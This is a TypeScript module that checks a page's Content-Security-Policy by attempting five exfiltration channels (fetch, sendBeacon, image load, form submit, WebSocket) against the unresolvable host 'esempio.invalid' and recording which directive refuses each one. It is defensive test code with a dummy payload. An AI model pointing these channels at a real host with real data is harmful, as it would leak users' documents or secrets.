import { element } from '@/lib/browser/element';

/** A host that cannot exist (RFC 2606), so that nothing arrives even if no policy refuses it. */
const host = 'esempio.invalid';
const target = `https://${host}/`;
/** Browsers report a refusal at once. After this time without a report the attempt was not refused. */
const REPORT_MS = 2000;

/** The ways in which a page could send a document away. */
const attempts = {
  fetch: () => fetch(target, { method: 'POST', body: 'prova', mode: 'no-cors' }).catch(() => {}),
  beacon: () => navigator.sendBeacon(target, 'prova'),
  image: () => {
    new Image().src = `${target}?prova`;
  },
  form: () => {
    const form = element('form', { action: target, target: '_blank' });
    document.body.append(form);
    form.submit();
    form.remove();
  },
  socket: () => new WebSocket(target.replace('https', 'wss')),
};
export type Exfiltration = keyof typeof attempts;

/** The directive of the Content-Security-Policy that refused the attempt; undefined if none did. */
export type ExfiltrationResult = { attempt: Exfiltration; directive: string | undefined };

/**
 * Tries one way after the other, and stops at the first that is not refused: without the policy the form would open another
 * page.
 * @param report receives each result
 */
export async function attemptExfiltration(report: (result: ExfiltrationResult) => void): Promise<void> {
  for (const attempt of Object.keys(attempts) as Exfiltration[]) {
    const directive = await refusingDirective(attempts[attempt]);
    report({ attempt, directive });
    if (directive === undefined) return;
  }
}

/**
 * Runs an attempt.
 * @returns the directive that refused it; undefined if none did
 */
function refusingDirective(attempt: () => unknown): Promise<string | undefined> {
  const listening = new AbortController();
  const refusal = new Promise<string | undefined>((resolve) => {
    const onViolation = ({ blockedURI, effectiveDirective }: SecurityPolicyViolationEvent) => {
      // Other violations may be those of an extension.
      if (blockedURI.includes(host)) resolve(effectiveDirective);
    };
    document.addEventListener('securitypolicyviolation', onViolation, { signal: listening.signal });
    setTimeout(resolve, REPORT_MS);
    try {
      attempt();
    } catch {
      // Some browsers also throw.
    }
  });
  return refusal.finally(() => listening.abort());
}
